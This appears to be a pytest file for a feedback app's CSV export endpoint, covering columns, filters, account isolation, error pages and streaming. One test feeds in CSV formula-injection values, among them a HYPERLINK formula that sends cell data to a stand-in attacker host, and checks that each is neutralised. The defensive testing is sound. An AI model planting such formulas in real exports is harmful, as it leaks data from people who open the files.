"""GET /app/responses.csv (SPEC §8): a header row, one column per question, the inbox's
filters, formula-like cells neutralised, streamed."""

from __future__ import annotations

import datetime as dt

import httpx
from fastapi import FastAPI
from sqlalchemy import insert

from opensure.feedback_responses import service
from opensure.models import FeedbackResponse
from tests.conftest import Account
from tests.console.inbox_pages import csv_rows, export_link, inbox
from tests.feedback_responses.inbox_support import T0, add_response

SECOND = dt.timedelta(seconds=1)
SPEC_COLUMNS = ["id", "submitted_at", "survey_id", "email", "name", "reference", "machine_id"]


async def test_the_export_has_the_spec_columns_and_one_per_question(
    app: FastAPI, account: Account, other_account: Account, admin: httpx.AsyncClient
) -> None:
    rid = await add_response(
        app,
        account,
        T0,
        rating=9,
        comment="Great, thanks",
        name="Kate Bush",
        email="kate@example.com",
        reference="T-42",
        machine_id="m-42",
    )
    await add_response(app, other_account, T0, rating=1, name="Not yours")
    header, *rows = await csv_rows(admin, "/app/responses.csv")
    assert set(SPEC_COLUMNS) <= set(header)
    for question in account.survey["questions"]:
        assert question["text"] in header
    (row,) = rows
    got = dict(zip(header, row, strict=True))
    assert {c: got[c] for c in SPEC_COLUMNS} == {
        "id": str(rid),
        "submitted_at": "2026-11-02T12:00:00Z",
        "survey_id": str(account.survey_id),
        "email": "kate@example.com",
        "name": "Kate Bush",
        "reference": "T-42",
        "machine_id": "m-42",
    }
    assert got["How likely are you to recommend us?"] == "9"
    assert got["Anything else?"] == "Great, thanks"
    assert got["How satisfied were you?"] == ""


async def test_the_export_takes_the_inbox_filters(
    app: FastAPI, account: Account, admin: httpx.AsyncClient
) -> None:
    ids = [
        await add_response(app, account, T0 + n * SECOND, rating=n % 11, comment=f"note {n}")
        for n in range(30)
    ]
    window = "from_time=2026-11-02T12:00:05Z&to_time=2026-11-02T12:00:20Z"
    _, *rows = await csv_rows(
        admin, f"/app/responses.csv?survey_ids[]={account.survey_id}&{window}"
    )
    assert [int(r[0]) for r in rows] == ids[20:4:-1]
    # The page's own export link gives what the page shows, on every page.
    html = await inbox(admin, band="promoter", q="note")
    _, *rows = await csv_rows(admin, export_link(html))
    assert [int(r[0]) for r in rows] == [
        i for n, i in reversed(list(enumerate(ids))) if n % 11 >= 9
    ]
    nothing = await csv_rows(admin, f"/app/responses.csv?survey_ids[]={account.survey_id + 999}")
    assert nothing == [list(service.EXPORT_COLUMNS)]


async def test_another_accounts_survey_exports_nothing_of_it(
    app: FastAPI, account: Account, other_account: Account, admin: httpx.AsyncClient
) -> None:
    await add_response(app, other_account, T0, rating=1, name="Not yours")
    rows = await csv_rows(admin, f"/app/responses.csv?survey_ids[]={other_account.survey_id}")
    assert rows == [list(service.EXPORT_COLUMNS)]  # neither its responses nor its questions


async def test_formula_cells_are_neutralised(
    app: FastAPI, account: Account, admin: httpx.AsyncClient
) -> None:
    await add_response(
        app,
        account,
        T0,
        comment='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        name="+44 20 7946 0000",
        email="@evil.example",
        reference="-2+3",
        machine_id="\t=1+1",
    )
    header, row = await csv_rows(admin, "/app/responses.csv")
    got = dict(zip(header, row, strict=True))
    assert got["Anything else?"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert got["name"] == "'+44 20 7946 0000"
    assert got["email"] == "'@evil.example"
    assert got["reference"] == "'-2+3"
    assert got["machine_id"] == "'\t=1+1"


async def test_bad_filters_give_a_readable_422_not_a_csv(admin: httpx.AsyncClient) -> None:
    response = await admin.get("/app/responses.csv?from_time=soon&band=fans")
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("text/html")
    assert "from_time: Enter a date and time" in response.text
    assert "band: Choose promoter, passive or detractor." in response.text


async def test_a_viewer_exports(app: FastAPI, account: Account, viewer: httpx.AsyncClient) -> None:
    rid = await add_response(app, account, T0, rating=3)
    _, row = await csv_rows(viewer, "/app/responses.csv")
    assert row[0] == str(rid)


async def test_the_export_streams_in_batches_every_row_once(
    app: FastAPI, account: Account, admin: httpx.AsyncClient
) -> None:
    # More than one batch (service.EXPORT_BATCH), several responses per second.
    n = service.EXPORT_BATCH + 7
    table = FeedbackResponse.__table__
    async with app.state.engine.begin() as conn:
        await conn.execute(
            insert(table),
            [
                {
                    "account_id": account.id,
                    "survey_id": account.survey_id,
                    "submitted_at": T0 + (i // 3) * SECOND,
                    "updated_at": T0,
                    "reference": f"r{i}",
                }
                for i in range(1, n + 1)
            ],
        )
    async with admin.stream("GET", "/app/responses.csv") as response:
        assert response.status_code == 200
        assert "content-length" not in response.headers  # streamed, not built whole
        chunks = [chunk async for chunk in response.aiter_text()]
    lines = "".join(chunks).splitlines()
    assert len(lines) == n + 1
    refs = sorted(line.split(",")[7] for line in lines[1:])
    assert refs == sorted(f"r{i}" for i in range(1, n + 1))
